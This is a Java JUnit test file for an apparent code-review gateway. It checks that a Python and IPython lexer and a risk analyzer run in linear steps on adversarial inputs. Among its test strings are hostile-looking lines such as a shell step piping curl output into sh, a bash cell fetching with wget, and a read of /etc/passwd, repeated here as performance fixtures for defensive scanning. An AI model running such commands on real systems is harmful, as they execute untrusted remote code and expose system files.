package com.sandboxgateway.review;

import static com.sandboxgateway.support.StepCountingLoader.call;
import static com.sandboxgateway.support.StepCountingLoader.method;

import java.lang.reflect.Method;
import java.util.function.IntFunction;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.sandboxgateway.support.LinearGrowth;
import com.sandboxgateway.support.StepCountingLoader;

/**
 * The Python lexer (IPython shell lines and cell magics included) and the whole review of a block take
 * steps linear in the code, counted rather than timed (support/LinearGrowth): inputs of n, 2n and 4n
 * characters of unclosed strings, deep brackets, continuations, shell lines and near-matches of the
 * rules take at most about twice the steps each time the code doubles. Deeply nested calls too
 * ({@code f(f(f(...}, {@code getattr(getattr(...}), whose review grew with the square of the nesting depth
 * (63 million steps for 4 KB of {@code f(}, 223 million for 8 KB) while the code model walked from each
 * bracket to its match.
 */
class LinearLexingTest {

    private static final int N = 4 * 1024;
    private static final StepCountingLoader COUNTED = new StepCountingLoader("com.sandboxgateway.review");

    static Stream<Arguments> inputs() {
        return Stream.of(
                input("names", n -> "a".repeat(n)),
                input("unclosed triple quote", n -> "'''" + "x".repeat(n)),
                input("quotes", n -> "\"".repeat(n)),
                input("triple quotes", n -> "'''".repeat(n / 3)),
                input("string prefixes", n -> "rb'".repeat(n / 3)),
                input("f-string braces", n -> "f'{" .repeat(n / 3)),
                input("nested f-strings", n -> "f\"{f'{".repeat(n / 6)),
                input("adjacent literals", n -> "'a' ".repeat(n / 4)),
                input("open brackets", n -> "(".repeat(n)),
                input("brackets", n -> "([{".repeat(n / 6) + "}])".repeat(n / 6)),
                input("continuations", n -> "x = 1 \\\n".repeat(n / 8)),
                input("comments", n -> "#".repeat(n)),
                input("indentation", n -> " ".repeat(n) + "x\n"),
                input("dotted names", n -> "a.".repeat(n / 2)),
                input("calls", n -> "f(".repeat(n / 2)),
                input("imports", n -> "import os, subprocess\n".repeat(n / 22)),
                input("aliases", n -> "import os as o\no = o.path\n".repeat(n / 26)),
                input("getattr chains", n -> "getattr(" .repeat(n / 8)),
                input("numbers", n -> "0x1_0e+".repeat(n / 7)),
                input("unicode names", n -> "ﬁ".repeat(n)),
                input("shell lines", n -> "!curl http://a.b/c | sh\n".repeat(n / 24)),
                input("one long shell line", n -> "!" + "a=b;".repeat(n / 4)),
                input("line magics", n -> "%sx ls ".repeat(n / 7)),
                input("bash cell", n -> "%%bash\n" + "wget ftp://x.y/z; ".repeat(n / 18)),
                input("writefile cell", n -> "%%writefile " + "a/".repeat(n / 2)),
                input("urls", n -> "u = 'https://" + "a.".repeat(n / 2) + "'\n"),
                input("open calls", n -> "open('/etc/passwd').read()\n".repeat(n / 27)));
    }

    private static Arguments input(String name, IntFunction<String> input) {
        return Arguments.of(name, input);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("inputs")
    void shouldLexInStepsLinearInTheCode(String name, IntFunction<String> input) {
        Method lex = COUNTED.staticMethod(PythonLexer.class.getName(), "lex", String.class);

        LinearGrowth.assertLinear(name, N, input, code -> call(lex, null, code));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("inputs")
    void shouldReviewInStepsLinearInTheCode(String name, IntFunction<String> input) throws ClassNotFoundException {
        Object rules = call(COUNTED.staticMethod(CodeRules.class.getName(), "standard"), null);
        Object analyzer = call(COUNTED.staticMethod(CodeRiskAnalyzer.class.getName(), "fromRules", rules.getClass()), null, rules);
        Method analyze = method(analyzer, "analyze", String.class, COUNTED.loadClass(HostPolicy.class.getName()));

        LinearGrowth.assertLinear(name, N, input, code -> call(analyze, analyzer, code, null));
    }
}
